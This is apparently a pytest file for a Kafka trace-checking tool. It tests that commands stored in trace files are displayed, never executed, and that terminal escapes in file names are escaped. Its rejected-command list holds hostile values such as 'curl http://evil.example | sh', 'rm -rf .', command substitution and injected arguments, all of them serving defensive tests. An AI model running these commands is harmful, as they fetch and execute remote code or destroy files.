"""Text from files is shown but never executed: commands to copy, and terminal escapes in names."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from conformance.tests.support.engine import COUNTER
from conformance.tests.support.trace import COMMITTED, kafka, weak_isr
from conformance.tests.traces.test_cli import complaint
from isrcheck.checker.cli import main as check
from isrcheck.commands.exit_codes import VIOLATED
from isrcheck.conformance.cli import main as conform
from isrcheck.traces.cli import main as trace
from isrcheck.traces.format import files

ODD = "a\x1b[31mred\n\x9b\u202e"
SHOWN = r"a\x1b[31mred\n\x9b\u202e"

OURS = [
    "check kafka --protocol 0.10 --bound 6",
    "check published/truncate_to_high_watermark --bound 24 --log-size 3 --switch FOLLOWER_SKIP=SAME_LEADER",
    "check kafka --bound 3 --engine z3",
    "check kafka --bound 3 --prove",
    "check kafka --bound 3 --counterexamples 2 && trace slice 'my traces/a.itf.json'",
    "trace explore kafka/0.10 --replicas 2",
    "conform replay --walks 1 --seed 7 --steps 20 --protocol 2.1 --bug some_bug",
    "conform follow 'a log.ndjson' --protocol 2.1 --set replicas=2",
    "",
]
NOT_OURS = [
    "check kafka; curl http://evil.example | sh",
    "check kafka && curl evil.example",
    "check kafka\t&& check kafka",
    "check kafka $(touch here)",
    "check kafka `touch here`",
    "check kafka > /etc/passwd",
    "check kafka 'unfinished",
    "check ~/kafka",
    "check *",
    "check kafka #",
    "rm -rf .",
    "X=1 check kafka",
    "check other.py --bound 8",
    "check kafka --model=other.py",
    "conform replay --walks 1 --driver other.py",
    "check kafka --report .",
    "check kafka --out=.",
    "check kafka -o x",
    "check kafka --engine spark --spark-conf spark.driver.extraJavaOptions=-javaagent:x.jar",
    "&&",
]


def with_header(path: Path, **entries: str) -> Path:
    """The same trace, with other entries of its header."""
    document = json.loads(path.read_text())
    document["#meta"]["isrcheck"] |= {name.replace("_", "-"): entry for name, entry in entries.items()}
    path.write_text(json.dumps(document))
    return path


@pytest.mark.parametrize("command", OURS)
def test_a_command_of_this_project_is_shown_unchanged(tmp_path: Path, command: str) -> None:
    path = with_header(files.write(weak_isr(), tmp_path), command=command)
    assert files.read(path).command == command


@pytest.mark.parametrize("command", NOT_OURS)
def test_other_commands_are_rebuilt_from_the_configuration(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str
) -> None:
    path = with_header(files.write(weak_isr(), tmp_path), command=command)
    if "\t" in command:
        assert trace(["show", str(path)]) == 2
        return
    made = "check published/truncate_to_high_watermark --bound 8 --replicas 2 --log-size 1 --records 1"
    assert trace(["show", str(path)]) == 0
    assert capsys.readouterr().out.splitlines()[-1] == f"reproduce: {made}"
    assert trace(["page", str(path), "-o", str(tmp_path / "page.html")]) == 0
    page = (tmp_path / "page.html").read_text()
    assert f'<code class="command">{made}</code>' in page
    assert "evil" not in page


def test_a_trace_without_property_names_no_search(tmp_path: Path) -> None:
    path = with_header(files.write(kafka(COMMITTED, None), tmp_path), command="curl evil.example | sh")
    assert files.read(path).command == ""


def test_a_file_of_another_version_names_no_command(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = with_header(files.write(weak_isr(), tmp_path), command="curl evil.example | sh", model_digest="0")
    error = complaint(capsys, "show", path)
    assert "evil" not in error
    assert error.endswith("; write the trace again with check")


def test_the_path_of_a_model_in_advice_is_quoted(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = with_header(files.write(weak_isr(), tmp_path), model_file="a.py; touch here")
    assert complaint(capsys, "show", path).endswith("give it: --model 'a.py; touch here'")


def test_the_trace_of_a_model_with_an_odd_name_is_read_back(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    model = Path(f"{ODD}.py")
    model.write_text(COUNTER)

    def printed() -> str:
        """What the last command printed, which has no control characters."""
        text = "".join(capsys.readouterr())
        assert text.replace("\n", "").isprintable()
        return text

    assert check([str(model), "--bound", "2"]) == VIOLATED
    printed()
    (path,) = files.files(Path("counterexamples"))
    assert trace(["show", str(path), "--model", str(model)]) == 0
    assert printed().splitlines()[-1] == f"reproduce: check '{SHOWN}.py' --bound 2"
    for words in (["show", str(path)], ["list"], ["page", str(path), "--model", str(model), "-o", f"{ODD}.html"]):
        trace(words)
        printed()


def test_names_of_files_are_shown_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    path = files.write(kafka(COMMITTED, None), tmp_path / "here")
    (tmp_path / "here" / "latest").unlink()
    shutil.copy(path, path.with_name(f"{ODD}.itf.json"))
    path.with_name(f"{ODD}2.itf.json").write_text("{}")
    path.unlink()
    assert trace(["list", "here"]) == 2
    out, err = capsys.readouterr()
    assert [line.split("  ")[0] for line in out.splitlines()] == ["file", f"{SHOWN}.itf.json"]
    assert err.startswith(f"trace: here/{SHOWN}2.itf.json: ")
    assert err.count("\n") == 1
    assert conform(["replay", "here"]) != 0
    out, err = capsys.readouterr()
    assert (out + err).replace("\n", "").isprintable()
    assert (out + err).count("\n") == (out + err).count(f"here/{SHOWN}")
